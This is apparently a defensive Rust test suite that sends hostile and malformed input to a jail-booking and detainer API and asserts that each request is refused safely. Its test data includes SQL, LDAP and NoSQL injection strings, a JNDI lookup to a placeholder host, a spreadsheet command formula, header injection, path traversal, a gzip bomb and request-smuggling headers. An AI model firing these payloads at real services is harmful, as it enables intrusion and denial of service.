//! Input that is wrong, odd or meant to hurt: each gets its answer, never a 500, and a refusal
//! writes nothing.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};
use sqlx::postgres::{PgConnectOptions, PgPoolOptions};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::support::more::{raw, read_answer, status_of};
use crate::support::*;

const SOON: &str = "2026-11-29T08:00:00-08:00";

/// A good notice as text, with more fields in front.
fn with(fields: &str) -> Vec<u8> {
    let text = notice("26-1", "scheduled", SOON).to_string();
    format!("{{{fields}{}", &text[1..]).into_bytes()
}

fn pointers(answer: &Answer) -> Vec<String> {
    answer.json()["errors"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|error| error["pointer"].as_str().unwrap().to_owned())
        .collect()
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn text_that_is_not_acceptable_json_is_400_and_writes_nothing(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let (clerk, liaison, operator) = (
        app.submitter(ALDER).await,
        app.liaison(SND).await,
        app.operator().await,
    );
    let before = app.rows().await;
    let good = notice("26-1", "scheduled", SOON).to_string();
    let deep = 100_000;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("nothing", vec![]),
        ("blanks", b"  \r\n".to_vec()),
        ("a duplicate key", with(r#""kind":"actual","#)),
        (
            "a duplicate key in escapes",
            with(r#""k\u0069nd":"actual","#),
        ),
        ("a duplicate key deeper", with(r#""note":{"a":1,"a":2},"#)),
        ("NUL in a value", with(r#""note":"a\u0000b","#)),
        ("NUL in a key", with(r#""no\u0000te":"a","#)),
        ("a raw NUL", with("\"note\":\"a\0b\",")),
        ("a lone surrogate", with(r#""note":"\ud800","#)),
        (
            "surrogates in the wrong order",
            with(r#""note":"\udc00\ud800","#),
        ),
        (
            "not UTF-8",
            [&b"{\"note\":\"\xff\","[..], &good.as_bytes()[1..]].concat(),
        ),
        (
            "UTF-16",
            good.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        ),
        (
            "an overlong slash",
            [&b"{\"note\":\"\xc0\xaf\","[..], &good.as_bytes()[1..]].concat(),
        ),
        ("arrays without end", "[".repeat(deep).into_bytes()),
        (
            "deep and closed",
            format!("{}{}", "[".repeat(deep), "]".repeat(deep)).into_bytes(),
        ),
        (
            "deep objects",
            format!("{}1{}", r#"{"a":"#.repeat(deep), "}".repeat(deep)).into_bytes(),
        ),
        (
            "33 deep",
            with(&format!(r#""note":{}{},"#, "[".repeat(32), "]".repeat(32))),
        ),
        ("2^63", with(r#""note":9223372036854775808,"#)),
        ("2^64", with(r#""note":18446744073709551616,"#)),
        ("-2^63", with(r#""note":-9223372036854775808,"#)),
        ("1e400", with(r#""note":1e400,"#)),
        ("-1e400", with(r#""note":-1e400,"#)),
        ("-0", with(r#""note":-0,"#)),
        ("NaN", with(r#""note":NaN,"#)),
        ("Infinity", with(r#""note":Infinity,"#)),
        ("a leading zero", with(r#""note":01,"#)),
        ("trailing bytes", format!("{good} x").into_bytes()),
        ("a second value", format!("{good}{good}").into_bytes()),
        (
            "a trailing comma",
            format!("{},}}", good.trim_end_matches('}')).into_bytes(),
        ),
        (
            "a byte order mark",
            [b"\xef\xbb\xbf", good.as_bytes()].concat(),
        ),
        ("a comment", format!("/* notice */ {good}").into_bytes()),
        ("a line comment", format!("{good} // notice").into_bytes()),
        ("single quotes", good.replace('"', "'").into_bytes()),
        ("cut short", good.as_bytes()[..good.len() - 3].to_vec()),
        ("an unknown field", with(r#""colour":"red","#)),
        (
            "a read-only id",
            with(r#""id":"018f0000-0000-7000-8000-000000000000","#),
        ),
        ("a read-only status", with(r#""status":"closed","#)),
        ("another's tenant by number", with(r#""agency_id":2,"#)),
        ("__proto__", with(r#""__proto__":{"a":1},"#)),
    ];
    for (name, body) in &cases {
        let started = Instant::now();
        let answer = clerk.post_bytes("/v1/release-notices", body.clone()).await;
        assert_eq!(answer.status, 400, "{name}: {}", answer.text);
        assert_eq!(answer.slug(), "invalid-body", "{name}");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{name} took {:?}",
            started.elapsed()
        );
    }
    // The same door at each of the others.
    let random = "018f0000-0000-7000-8000-000000000000";
    for (name, body) in cases.iter().step_by(5) {
        let json = [("content-type", "application/json")];
        let put = clerk
            .send(Method::PUT, "/v1/bookings/26-1", &json, body.clone())
            .await;
        assert_eq!(put.status, 400, "{name}: {}", put.text);
        let lodged = liaison.post_bytes("/v1/detainers", body.clone()).await;
        assert_eq!(lodged.status, 400, "{name}: {}", lodged.text);
        let registered = operator.post_bytes("/v1/agencies", body.clone()).await;
        assert_eq!(registered.status, 400, "{name}: {}", registered.text);
        // Scope comes before the body.
        let path = format!("/v1/detainers/{random}/acknowledgement");
        clerk.post_bytes(&path, body.clone()).await.expect(404);
    }
    for (field, pointer) in [
        ("status", "/status"),
        ("id", "/id"),
        ("stage", "/stage"),
        ("created_at", "/created_at"),
    ] {
        let mut body = detainer(SND, ALDER, "A012345678");
        body[field] = json!("closed");
        let answer = liaison.post("/v1/detainers", body).await.expect(400);
        assert_eq!(pointers(&answer), [pointer]);
        let mut body = detainer(SND, ALDER, "A012345678");
        body["subject"][field] = json!("closed");
        let answer = liaison.post("/v1/detainers", body).await.expect(400);
        assert_eq!(pointers(&answer), [format!("/subject{pointer}")]);
    }
    assert_eq!(app.rows().await, before);
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn a_value_that_breaks_a_rule_is_422_and_named_by_its_pointer(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let (clerk, liaison) = (app.submitter(ALDER).await, app.liaison(SND).await);
    let before = app.rows().await;
    for missing in ["booking_number", "kind", "effective_at", "subject"] {
        let mut body = notice("26-1", "scheduled", SOON);
        body.as_object_mut().unwrap().remove(missing);
        let answer = clerk.post("/v1/release-notices", body).await.expect(422);
        assert_eq!(
            (answer.slug(), pointers(&answer)),
            ("validation".into(), vec![format!("/{missing}")])
        );
    }
    for missing in [
        "form",
        "issued_on",
        "office",
        "custodian",
        "subject",
        "asks",
    ] {
        let mut body = detainer(SND, ALDER, "A012345678");
        body.as_object_mut().unwrap().remove(missing);
        let answer = liaison.post("/v1/detainers", body).await.expect(422);
        assert_eq!(pointers(&answer), [format!("/{missing}")]);
    }
    for (name, value, pointer) in [
        ("kind", json!("fled"), "/kind"),
        ("kind", json!(null), "/kind"),
        ("kind", json!(1), "/kind"),
        ("kind", json!("Scheduled"), "/kind"),
        ("booking_number", json!(26), "/booking_number"),
        ("booking_number", json!(""), "/booking_number"),
        ("booking_number", json!("   "), "/booking_number"),
        ("booking_number", json!("x".repeat(61)), "/booking_number"),
        ("subject", json!([]), "/subject"),
        ("subject", json!("Ana Example"), "/subject"),
        (
            "subject",
            json!({"given_name": "Ana"}),
            "/subject/family_name",
        ),
        (
            "subject",
            json!({"family_name": "x".repeat(301)}),
            "/subject/family_name",
        ),
        (
            "subject",
            json!({"family_name": "Example", "a_number": "12"}),
            "/subject/a_number",
        ),
        (
            "subject",
            json!({"family_name": "Example", "date_of_birth": "1990-02-30"}),
            "/subject/date_of_birth",
        ),
        (
            "subject",
            json!({"family_name": "Example", "date_of_birth": "2100-01-01"}),
            "/subject/date_of_birth",
        ),
        ("supersedes", json!("no-uuid"), "/supersedes"),
        (
            "supersedes",
            json!("018f0000-0000-7000-8000-000000000000"),
            "/supersedes",
        ),
        ("agency", json!(BIRCH), "/agency"),
        ("agency", json!("CA"), "/agency"),
        ("note", json!("x".repeat(4001)), "/note"),
        ("note", json!(5), "/note"),
        ("release_basis", json!("whim"), "/release_basis"),
        (
            "release_information_public",
            json!({"url": "javascript:alert(1)", "captured_at": SOON}),
            "/release_information_public/url",
        ),
        (
            "source_message_id",
            json!("x".repeat(201)),
            "/source_message_id",
        ),
    ] {
        let mut body = notice("26-1", "scheduled", SOON);
        body[name] = value.clone();
        let answer = clerk.post("/v1/release-notices", body).await;
        assert_eq!(answer.status, 422, "{name} {value}: {}", answer.text);
        assert_eq!(
            pointers(&answer),
            [pointer],
            "{name} {value}: {}",
            answer.text
        );
    }
    // A whole body that is JSON but no object.
    for body in ["null", "1", "\"text\"", "[]", "true"] {
        clerk
            .post_bytes("/v1/release-notices", body.into())
            .await
            .expect(422);
    }
    let in_order = json!([ALDER, "26-1", "scheduled", SOON, null, {"family_name": "Example"}, null, null, null, null, null]);
    clerk
        .post("/v1/release-notices", in_order)
        .await
        .expect(422);
    assert_eq!(app.rows().await, before);
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn instants_outside_what_can_be_are_422_and_odd_ones_are_kept(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let (clerk, liaison) = (app.submitter(ALDER).await, app.liaison(SND).await);
    clerk
        .put("/v1/bookings/26-1", booking("A012345678"))
        .await
        .expect(201);
    let before = app.rows().await;
    let far = (app.app.clock.now() + chrono::Duration::days(3655)).to_rfc3339();
    for at in [
        json!("2026-11-19T22:09:59-08:00"), // a second before the booking
        json!("2026-11-20T06:09:59Z"),
        json!(far),
        json!("0001-01-01T00:00:00Z"),
        json!("0000-01-01T00:00:00Z"),
        json!("-0001-01-01T00:00:00Z"),
        json!("9999-12-31T23:59:59Z"),
        json!("+262142-12-31T23:59:59Z"),
        json!("-262143-01-01T00:00:00Z"),
        json!("99999999999-01-01T00:00:00Z"),
        json!("2026-11-29T08:00:00"), // no offset
        json!("2026-11-29"),
        json!("2026-11-29T08:00:00 America/Los_Angeles"),
        json!("2026-11-29T08:00:00-99:00"),
        json!("2026-11-29T24:00:00Z"),
        json!("2026-11-29T08:60:00Z"),
        json!("2026-11-29T08:00:61Z"),
        json!("2027-02-29T08:00:00Z"),
        json!("2028-02-30T08:00:00Z"),
        json!("2026-13-01T08:00:00Z"),
        json!("tomorrow"),
        json!(""),
        json!(1_795_939_200),
        json!(null),
    ] {
        let mut body = notice("26-1", "scheduled", SOON);
        body["effective_at"] = at.clone();
        let answer = clerk.post("/v1/release-notices", body).await;
        assert_eq!(answer.status, 422, "{at}: {}", answer.text);
        assert_eq!(pointers(&answer), ["/effective_at"], "{at}");
    }
    for (pointer, value) in [
        ("/issued_on", json!("2026-02-29")),
        ("/issued_on", json!("9999-12-31")),
        ("/issued_on", json!("0001-01-01")),
        ("/issued_on", json!("-262143-01-01")),
        ("/issued_on", json!("2026-11-20T00:00:00Z")),
        ("/issued_on", json!(20_261_120)),
        ("/received_at", json!("9999-12-31T00:00:00Z")),
        ("/received_at", json!("0001-01-01T00:00:00Z")),
        ("/subject/date_of_birth", json!("0001-01-01")),
        ("/subject/date_of_birth", json!("+262142-01-01")),
        ("/warrants/0/signed_on", json!("-262143-01-01")),
        ("/warrants/0/signed_on", json!("2026-02-30")),
    ] {
        let mut body = detainer(SND, ALDER, "A012345678");
        if pointer == "/received_at" {
            body["received_at"] = value.clone();
        } else {
            *body.pointer_mut(pointer).unwrap() = value.clone();
        }
        let answer = liaison.post("/v1/detainers", body).await;
        assert_eq!(answer.status, 422, "{pointer} {value}: {}", answer.text);
    }
    for (pointer, value) in [
        ("/booked_at", json!("0001-01-01T00:00:00Z")),
        ("/booked_at", json!("9999-12-31T00:00:00Z")),
        ("/otherwise_releasable_at", json!("9999-12-31T00:00:00Z")),
        ("/otherwise_releasable_at", json!("2001-01-01T00:00:00Z")),
        ("/charges/0/charged_on", json!("-262143-01-01")),
        ("/charges/0/charged_on", json!("2026-02-29")),
        ("/charges/0/disposition_on", json!("-262143-01-01")),
    ] {
        let mut body = booking("A012345678");
        body["otherwise_releasable_at"] = json!(null);
        body["charges"][0]["disposition_on"] = json!(null);
        *body.pointer_mut(pointer).unwrap() = value.clone();
        let answer = clerk.put("/v1/bookings/26-9", body).await;
        assert_eq!(answer.status, 422, "{pointer} {value}: {}", answer.text);
    }
    let mut body = notice("26-1", "scheduled", SOON);
    body["release_information_public"] =
        json!({"url": "https://jail.example/list", "captured_at": "-262143-01-01T00:00:00Z"});
    let answer = clerk.post("/v1/release-notices", body).await;
    assert_eq!(answer.status, 422, "{}", answer.text);
    assert_eq!(app.rows().await, before);

    for (at, read) in [
        ("2028-02-29T08:00:00-08:00", "2028-02-29T16:00:00Z"),
        (
            "2026-11-29T08:00:00.123456789-08:00",
            "2026-11-29T16:00:00.123456Z",
        ),
        ("2026-11-29t08:00:00z", "2026-11-29T08:00:00Z"),
        ("2026-12-31T23:59:60Z", "2027-01-01T00:00:00Z"), // a leap second
    ] {
        let answer = clerk
            .post("/v1/release-notices", notice("26-1", "rescheduled", at))
            .await;
        if answer.status == 201 {
            assert_eq!(answer.json()["effective_at"], read, "{at}");
            let stored = clerk.get(&answer.header("location")).await;
            assert_eq!(
                stored.text, answer.text,
                "what is stored equals what was answered"
            );
        } else {
            assert_eq!(answer.status, 422, "{at}: {}", answer.text);
        }
    }
    // Filters take dates too.
    for date in ["-262143-01-01", "+262142-12-31", "0001-01-01", "9999-12-31"] {
        for name in ["issued_from", "issued_to", "date_of_birth"] {
            for caller in [&clerk, &liaison] {
                let answer = caller
                    .get(&format!(
                        "/v1/detainers?{name}={}",
                        date.replace('+', "%2B")
                    ))
                    .await;
                assert!(
                    [200, 422].contains(&answer.status.as_u16()),
                    "{name}={date}: {}",
                    answer.text
                );
            }
        }
        for name in ["from", "to"] {
            let answer = clerk
                .get(&format!(
                    "/v1/statistics/detainers?{name}={}",
                    date.replace('+', "%2B")
                ))
                .await;
            assert!(
                [200, 422].contains(&answer.status.as_u16()),
                "{name}={date}: {}",
                answer.text
            );
        }
    }
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn names_are_kept_as_written_and_injections_are_only_text(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let (clerk, liaison) = (app.submitter(ALDER).await, app.liaison(SND).await);
    let names = [
        "Prince".to_owned(),
        "é".repeat(300),
        "e\u{301}".to_owned(), // two code points; not made one
        "é".to_owned(),
        "عبد الرحمن".to_owned(),
        "Exam\u{202e}elp".to_owned(),
        "\u{2066}Ana\u{2069}".to_owned(),
        "👩‍👩‍👧‍👦 Example".to_owned(),
        "Zero\u{200b}width\u{feff}".to_owned(),
        "Z̸̧̛̙a̵l̶g̴o̷".to_owned(),
        "\u{10ffff}\u{fffe}".to_owned(),
        "line\nbreak\ttab\u{7f}\u{1b}[31m".to_owned(),
        "Robert'); drop table custodian.person; --".to_owned(),
        "${jndi:ldap://x.example/a}{{7*7}}<script>alert(1)</script>".to_owned(),
        "\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b".to_owned()[2..].to_owned(),
        "%00%0a\\u0000 \\x00".to_owned(),
        "=cmd|' /C calc'!A0".to_owned(),
        "%' or '1'='1".to_owned(),
        "sp_c000000000000000_aaaaaaaa".to_owned(),
    ];
    for (at, name) in names.iter().enumerate() {
        let mut body = booking("A012345678");
        body["subject"] = json!({"family_name": name, "given_name": name});
        body["charges"][0]["description"] = json!(name);
        let path = format!("/v1/bookings/26-{at}");
        let put = clerk.put(&path, body.clone()).await.expect(201);
        let read = clerk.get(&path).await.expect(200);
        for answer in [&put, &read] {
            assert_eq!(answer.json()["subject"]["family_name"], json!(name));
            assert_eq!(answer.json()["subject"]["given_name"], json!(name));
            assert_eq!(answer.json()["charges"][0]["description"], json!(name));
        }
        assert_eq!(clerk.put(&path, body).await.expect(200).text, read.text);
        let mut lodged = detainer(SND, ALDER, "A012345678");
        lodged["subject"] = json!({"family_name": name, "additional_names": name});
        lodged["source_id"] = json!(name.chars().take(200).collect::<String>());
        let place = liaison
            .post("/v1/detainers", lodged)
            .await
            .expect(201)
            .header("location");
        for caller in [&liaison, &clerk] {
            let read = caller.get(&place).await.expect(200).json();
            assert_eq!(read["subject"]["family_name"], json!(name));
            assert_eq!(read["subject"]["additional_names"], json!(name));
        }
    }
    let rows = app.rows().await;
    assert_eq!(rows["custodian.booking"], names.len() as i64);
    assert_eq!(rows["exchange.detainer"], names.len() as i64);

    // In each place where a text can go.
    for text in [
        "'; drop table custodian.booking; --",
        "\\'; select pg_sleep(9); --",
        "7) or (7=7",
        "{\"$gt\":\"\"}",
        "a\nlevel=ERROR forged=line",
        "*)(uid=*))(|(uid=*",
    ] {
        let coded = sallyport::exchange::detainer::filter::percent(text);
        for path in [
            format!("/v1/detainers?name={coded}"),
            format!("/v1/detainers?booking_number={coded}"),
            format!("/v1/detainers?office={coded}&custodian={coded}&jurisdiction={coded}"),
            format!("/v1/jurisdictions?q={coded}&state={coded}&level={coded}"),
            format!("/v1/agencies?jurisdiction={coded}"),
            format!("/v1/bookings?booking_number={coded}"),
            format!("/v1/release-notices?booking_number={coded}&kind={coded}"),
            format!("/v1/notifications?status={coded}"),
        ] {
            let answer = clerk.get(&path).await;
            assert!(
                [200, 422].contains(&answer.status.as_u16()),
                "{path}: {}",
                answer.text
            );
            assert_eq!(
                answer.json()["items"].as_array().map_or(0, Vec::len),
                0,
                "{path}: {}",
                answer.text
            );
        }
        for path in [
            "/v1/detainers?sort=",
            "/v1/detainers?status=",
            "/v1/detainers?limit=",
            "/v1/detainers?form=",
        ] {
            clerk.get(&format!("{path}{coded}")).await.expect(422);
        }
        clerk
            .get(&format!("/v1/detainers?cursor={coded}"))
            .await
            .expect(400);
        for path in [
            "bookings",
            "agencies",
            "offices",
            "jurisdictions",
            "release-notices",
            "notifications",
            "detainers",
        ] {
            clerk.get(&format!("/v1/{path}/{coded}")).await.expect(404);
        }
        let mut body = notice(text, "scheduled", SOON);
        body["note"] = json!(text);
        body["source_message_id"] = json!(text);
        body["feed"] = json!(text);
        let made = clerk.post("/v1/release-notices", body).await.expect(201);
        assert_eq!(made.json()["booking_number"], json!(text));
        assert_eq!(made.json()["note"], json!(text));
        let found = clerk
            .get(&format!("/v1/release-notices?booking_number={coded}"))
            .await
            .expect(200)
            .json();
        assert_eq!(found["items"].as_array().unwrap().len(), 1);
        let header = text.replace('\n', " ");
        let agent = [
            ("user-agent", header.as_str()),
            ("x-request-id", header.as_str()),
            ("last-event-id", header.as_str()),
        ];
        clerk
            .send(Method::GET, "/v1/whoami", &agent, "")
            .await
            .expect(200);
        clerk
            .send(Method::GET, "/v1/events", &agent, "")
            .await
            .expect(400);
    }
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn headers_that_are_missing_or_wrong_are_named(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let clerk = app.submitter(ALDER).await;
    let before = app.rows().await;
    let body = notice("26-1", "scheduled", SOON).to_string();
    let path = "/v1/release-notices";
    let json = ("content-type", "application/json");
    let long = "k".repeat(256);
    for headers in [
        vec![json],
        vec![json, ("idempotency-key", "")],
        vec![json, ("idempotency-key", "\"\"")],
        vec![json, ("idempotency-key", "   ")],
        vec![json, ("idempotency-key", long.as_str())],
        vec![json, ("idempotency-key", "ключ")],
    ] {
        let answer = clerk
            .send(Method::POST, path, &headers, body.clone())
            .await
            .expect(400);
        assert_eq!(answer.slug(), "idempotency-key-missing", "{headers:?}");
    }
    let key = ("idempotency-key", "a-key-of-this-test");
    for headers in [
        vec![key],
        vec![key, ("content-type", "")],
        vec![key, ("content-type", "text/plain")],
        vec![key, ("content-type", "application/x-www-form-urlencoded")],
        vec![key, ("content-type", "multipart/form-data; boundary=x")],
        vec![key, ("content-type", "application/jsonp")],
        vec![key, json, ("content-encoding", "gzip")],
        vec![key, json, ("content-encoding", "br")],
        vec![key, json, ("content-encoding", "identity, gzip")],
    ] {
        let answer = clerk
            .send(Method::POST, path, &headers, body.clone())
            .await
            .expect(415);
        assert_eq!(answer.slug(), "unsupported-media-type", "{headers:?}");
        if headers.len() == 3 || headers.len() == 1 {
            let put: Vec<_> = headers[1..].to_vec();
            clerk
                .send(Method::PUT, "/v1/bookings/26-1", &put, body.clone())
                .await
                .expect(415);
        }
    }
    // A compressed megabyte of nothing.
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut bomb, &vec![b' '; 64 << 20]).unwrap();
    let headers = [key, json, ("content-encoding", "gzip")];
    clerk
        .send(Method::POST, path, &headers, bomb.finish().unwrap())
        .await
        .expect(415);

    // Keys in addresses, also beside a good one.
    let own = clerk.key.clone();
    for query in [
        format!("key={own}"),
        format!("access_token={own}&limit=1"),
        own.clone(),
    ] {
        let answer = clerk.get(&format!("/v1/whoami?{query}")).await.expect(401);
        assert_eq!(answer.slug(), "unauthenticated");
        assert!(!answer.text.contains(&own), "the key is not said again");
    }
    for authorization in [
        "",
        "Bearer",
        "Bearer ",
        "Basic c3A6c3A=",
        "bearer sp_",
        "Bearer null",
    ] {
        let request = format!(
            "GET /v1/whoami HTTP/1.1\r\nHost: x\r\nAuthorization: {authorization}\r\nCookie: session={own}\r\nConnection: close\r\n\r\n"
        );
        assert_eq!(
            status_of(&raw(app.address, request.as_bytes()).await),
            401,
            "{authorization}"
        );
    }
    assert_eq!(app.rows().await, before);
    let named = [key, ("content-type", "Application/JSON; charset=utf-8")];
    clerk
        .send(Method::POST, path, &named, body)
        .await
        .expect(201);
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn a_body_without_end_is_refused_at_its_limit(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let clerk = app.submitter(ALDER).await;
    let before = app.rows().await;
    let head = |more: &str| {
        format!(
            "POST /v1/release-notices HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nIdempotency-Key: {}\r\n\
             Content-Type: application/json\r\n{more}\r\n\r\n",
            clerk.key,
            fresh_key()
        )
    };
    // A gigabyte that is only announced: refused before a byte of it.
    let started = Instant::now();
    let answer = raw(app.address, head("Content-Length: 1073741824").as_bytes()).await;
    assert_eq!(status_of(&answer), 413, "{answer}");
    assert!(answer.contains("/problems/too-large"));
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    let booking = head("Content-Length: 1073741824")
        .replace("POST /v1/release-notices", "PUT /v1/bookings/26-1");
    assert_eq!(status_of(&raw(app.address, booking.as_bytes()).await), 413);

    // Chunks for ever: refused at a mebibyte.
    let mut stream = TcpStream::connect(app.address).await.unwrap();
    stream
        .write_all(head("Transfer-Encoding: chunked").as_bytes())
        .await
        .unwrap();
    let chunk = format!("4000\r\n{}\r\n", " ".repeat(0x4000));
    let mut sent = 0usize;
    let (mut reader, mut writer) = stream.into_split();
    let reading = tokio::spawn(async move {
        let mut answer = vec![0u8; 65536];
        let read = tokio::io::AsyncReadExt::read(&mut reader, &mut answer)
            .await
            .unwrap_or(0);
        (
            String::from_utf8_lossy(&answer[..read]).into_owned(),
            reader,
        )
    });
    while !reading.is_finished() && sent < 64 << 20 {
        if writer.write_all(chunk.as_bytes()).await.is_err() {
            break;
        }
        sent += 0x4000;
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    let (answer, _reader) = reading.await.unwrap();
    assert!(answer.is_empty() || status_of(&answer) == 413, "{answer}");
    assert!(sent < 16 << 20, "{sent} bytes were taken");
    println!("refused after {sent} bytes of chunks");

    // Exactly the limit is read; one byte more is not.
    let padded = |size: usize| {
        let text = notice("26-1", "scheduled", SOON).to_string();
        format!("{}{text}", " ".repeat(size - text.len())).into_bytes()
    };
    clerk
        .post_bytes("/v1/release-notices", padded((1 << 20) + 1))
        .await
        .expect(413);
    assert_eq!(app.rows().await, before);
    clerk
        .post_bytes("/v1/release-notices", padded(1 << 20))
        .await
        .expect(201);

    // A body that ends before the length it announced.
    let before = app.rows().await;
    let mut stream = TcpStream::connect(app.address).await.unwrap();
    let text = notice("26-2", "scheduled", SOON).to_string();
    let request = format!(
        "{}{text}",
        head(&format!("Content-Length: {}", text.len() + 10))
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    stream.shutdown().await.unwrap();
    let answer = read_answer(&mut stream).await;
    assert!(answer.is_empty() || status_of(&answer) == 400, "{answer}");
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(app.rows().await, before);
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn no_trick_with_a_path_reaches_another_route(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let reviewer = app.reviewer(ALDER).await;
    reviewer
        .put("/v1/bookings/26-1", booking("A012345678"))
        .await
        .expect(201);
    let before = app.rows().await;
    for path in [
        "/v1/%2e%2e/healthz",
        "/v1/../healthz",
        "/v1/./whoami",
        "/v1//whoami",
        "//v1/whoami",
        "/v1/whoami/",
        "/v1/whoami;a=b",
        "/v1/whoami%20",
        "/v1/whoami%00",
        "/v1/whoami%2f",
        "/v1/whoami.",
        "/V1/whoami",
        "/v1/WHOAMI",
        "/v1/%77hoami%3f",
        "/v1/bookings/%00",
        "/v1/bookings/26-1%00",
        "/v1/bookings/..%2f..%2fhealthz",
        "/v1/bookings/26-1;x",
        "/v1/bookings/26-1/",
        "/v1/bookings/%ff%fe",
        "/v1/bookings/%",
        "/v1/bookings/%zz",
        "/v1/bookings//26-1",
        "/v1/agencies/%00",
        "/v1/agencies/CA0990100%00",
        "/v1/offices/SND%00",
        "/v1/offices/..",
        "/v1/jurisdictions/us%00",
        "/v1/detainers/%00",
        "/v1/detainers/%7b018f0000-0000-7000-8000-000000000000%7d",
        "/v1/release-notices/%00",
        "/v1/notifications/%00",
        "/v1/detainers/../bookings/26-1",
        "/v1/detainers/%2e%2e/bookings",
    ] {
        let request = format!(
            "GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
            reviewer.key
        );
        let answer = raw(app.address, request.as_bytes()).await;
        assert!([400, 404].contains(&status_of(&answer)), "{path}: {answer}");
    }
    let long = format!("/v1/bookings/{}", "x".repeat(30_000));
    reviewer.get(&long).await.expect(404);
    let key = |path: &str| {
        format!(
            "DELETE {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
            reviewer.key
        )
    };
    for path in ["/v1/keys/%00", "/v1/keys/..", "/v1/keys/", "/v1/keys/%2a"] {
        assert_eq!(
            status_of(&raw(app.address, key(path).as_bytes()).await),
            404,
            "{path}"
        );
    }
    for (path, status) in [
        ("/v1/bookings/%00", vec![404, 422]),
        ("/v1/bookings/%20", vec![404, 422]),
        ("/v1/bookings/a%0ab", vec![201]),
    ] {
        let body: Value = booking("A087654321");
        let answer = reviewer.put(path, body).await;
        assert!(
            status.contains(&answer.status.as_u16()),
            "{path}: {}",
            answer.text
        );
    }
    for query in [
        "name=%00",
        "q=1",
        "limit=%00",
        "cursor=%00",
        "status=pending&status=closed",
        "name=%ff",
        "&&&",
        "=",
    ] {
        let answer = reviewer.get(&format!("/v1/detainers?{query}")).await;
        assert!(
            [200, 400, 422].contains(&answer.status.as_u16()),
            "{query}: {}",
            answer.text
        );
    }
    let mut after = app.rows().await;
    for table in [
        "custodian.booking",
        "custodian.person",
        "custodian.charge",
        "custodian.identifier",
        "log.event",
    ] {
        *after.get_mut(table).unwrap() -= 1; // the one with a line break in its number
    }
    assert_eq!(after, before);
    app.stop().await;
}

#[sqlx::test(fixtures(path = "../fixtures", scripts("two_counties")))]
async fn requests_that_two_servers_could_read_differently_are_refused(
    options: PgPoolOptions,
    owner: PgConnectOptions,
) {
    let app = TestApp::start(options, owner).await;
    let clerk = app.submitter(ALDER).await;
    let auth = format!("Authorization: Bearer {}", clerk.key);
    let smuggled = format!("GET /v1/keys HTTP/1.1\r\nHost: x\r\n{auth}\r\n\r\n");
    for head in [
        "Content-Length: 5\r\nContent-Length: 6".to_owned(),
        "Transfer-Encoding: xchunked".to_owned(),
        "Transfer-Encoding: chunked, identity".to_owned(),
        "Content-Length: -1".to_owned(),
        "Content-Length: +5".to_owned(),
        "Content-Length : 5".to_owned(),
        "X-A: a\0b".to_owned(),
        "X-A: a\r\n folded".to_owned(),
        " X-A: a".to_owned(),
    ] {
        let request = format!(
            "POST /v1/release-notices HTTP/1.1\r\nHost: x\r\n{auth}\r\nIdempotency-Key: k\r\n{head}\r\n\r\n{smuggled}"
        );
        let answer = raw(app.address, request.as_bytes()).await;
        let status = status_of(&answer);
        assert!(answer.is_empty() || status >= 400, "{head:?}: {answer}");
        assert!(status != 500, "{head:?}: {answer}");
        assert_eq!(
            answer.matches("HTTP/1.1 ").count(),
            usize::from(!answer.is_empty()),
            "{head:?}: {answer}"
        );
    }
    assert_eq!(
        app.count("select count(*) from custodian.release_notice")
            .await,
        0
    );
    app.stop().await;
}
